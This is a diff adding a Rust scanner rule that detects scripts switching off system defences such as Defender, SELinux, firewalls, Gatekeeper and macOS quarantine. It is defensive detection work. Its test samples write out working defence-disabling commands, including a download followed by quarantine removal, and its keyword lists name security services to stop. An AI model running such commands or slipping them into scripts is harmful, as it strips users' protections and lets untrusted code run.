@@ -1,0 +1,147 @@
+//! `execution-security-off`: a guard of the system is switched off.
+
+use crate::finding::{Confidence, Severity};
+use crate::scan::code::Unit;
+use crate::scan::collecting_host;
+use crate::scan::command;
+use crate::scan::operation::Act;
+use crate::scan::rule::{Check, Reporter, Rule, Sample};
+
+/// The rule.
+pub static RULE: Rule = Rule {
+    id: "execution-security-off",
+    title: "Switches off a guard of the system",
+    severity: Severity::Error,
+    confidence: Confidence::High,
+    why: "Virus scanners, quarantine, firewalls and mandatory access control are what stands between a skill and the rest of the machine.",
+    fix: "Leave the guards on; sign what you ship, or tell the person what the system will ask.",
+    references: &["ATT&CK T1562.001", "ATT&CK T1553.001", "CWE-693"],
+    hits: &[
+        Sample::File(
+            "a.ps1",
+            "Set-MpPreference -DisableRealtimeMonitoring $true\n",
+        ),
+        Sample::File("a.sh", "setenforce 0\n"),
+        Sample::File(
+            "a.sh",
+            "curl -o tool http://198.51.100.7/tool\nxattr -d com.apple.quarantine tool\n",
+        ),
+        Sample::File(
+            "scripts/a.py",
+            "import subprocess\nsubprocess.run(['netsh', 'advfirewall', 'set', 'allprofiles', 'state', 'off'])\n",
+        ),
+        Sample::File(
+            "scripts/a.js",
+            "require('child_process').execSync('spctl --master-disable');\n",
+        ),
+    ],
+    misses: &[
+        Sample::File("a.sh", "xattr -l tool\n"),
+        Sample::File("a.sh", "getenforce\nufw status\n"),
+        Sample::File("a.ps1", "Get-MpPreference\n"),
+        Sample::File(
+            "scripts/a.py",
+            "import subprocess\nsubprocess.run(['csrutil', 'status'])\n",
+        ),
+    ],
+    check: Check::Unit(check),
+};
+
+fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
+    let fetches = unit
+        .lowered
+        .operations
+        .iter()
+        .any(|operation| matches!(operation.act, Act::Contact { local: false, .. }));
+    let strange = unit.lowered.operations.iter().any(|operation| {
+        matches!(&operation.act, Act::Contact { address, local: false, .. }
+        if address.text.as_deref().is_some_and(|address| {
+            address.starts_with("http://") || collecting_host::of_address(address).is_some()
+        }))
+    });
+    for command in command::all(unit) {
+        let Some(severity) = weight(&command, fetches, strange) else {
+            continue;
+        };
+        let raised = reporter.raise(command.span);
+        raised.severity(severity);
+        if severity == Severity::Blocker {
+            raised.message("Switches off a guard of the system for what it downloads");
+        }
+    }
+}
+
+fn weight(command: &command::Command<'_>, fetches: bool, strange: bool) -> Option<Severity> {
+    const KNOWN: &[&str] = &[
+        "set-mppreference",
+        "add-mppreference",
+        "setenforce",
+        "csrutil",
+        "spctl",
+        "xattr",
+        "ufw",
+        "netsh",
+        "sc",
+        "systemctl",
+        "auditctl",
+        "set-netfirewallprofile",
+        "launchctl",
+        "iptables",
+        "defaults",
+        "stop-service",
+        "reg",
+    ];
+    if !command.is(KNOWN) {
+        return None;
+    }
+    let line = command.small();
+    let has = |word: &str| line.contains(word);
+    let strong = match command.program().to_ascii_lowercase().as_str() {
+        "set-mppreference" => has("-disable") && (has("$true") || has(" 1")),
+        "add-mppreference" => has("-exclusion"),
+        "setenforce" => has(" 0") || has("permissive"),
+        "csrutil" => has("disable"),
+        "spctl" => has("--master-disable") || has("--global-disable"),
+        "ufw" => has(" disable"),
+        "netsh" => has("firewall") && has("off"),
+        "set-netfirewallprofile" => has("-enabled") && has("false"),
+        "auditctl" => has("-e 0"),
+        "sc" | "stop-service" => {
+            ["windefend", "wscsvc", "sense", "mpssvc"]
+                .iter()
+                .any(|name| has(name))
+                && !has("query")
+        }
+        "reg" => {
+            has(" add ")
+                && (has("disableantispyware")
+                    || has("disablerealtimemonitoring")
+                    || has("enablelua"))
+        }
+        "systemctl" => {
+            (has(" stop ") || has(" disable ") || has(" mask "))
+                && [
+                    "auditd", "apparmor", "falcon", "clamav", "crowdsec", "fail2ban", "osqueryd",
+                    "wazuh",
+                ]
+                .iter()
+                .any(|name| has(name))
+        }
+        _ => false,
+    };
+    let quarantine = command.is(&["xattr"])
+        && (has("com.apple.quarantine") && (has(" -d") || has(" -rd") || has(" -dr"))
+            || has(" -c ")
+            || has(" -cr ")
+            || has(" -rc "));
+    match (strong, quarantine) {
+        (true, _) if fetches && command.is(&["set-mppreference", "add-mppreference", "spctl"]) => {
+            Some(Severity::Blocker)
+        }
+        (true, _) => Some(Severity::Error),
+        // Makers of unsigned tools tell people to do this.
+        (false, true) if strange => Some(Severity::Error),
+        (false, true) => Some(Severity::Warning),
+        (false, false) => None,
+    }
+}
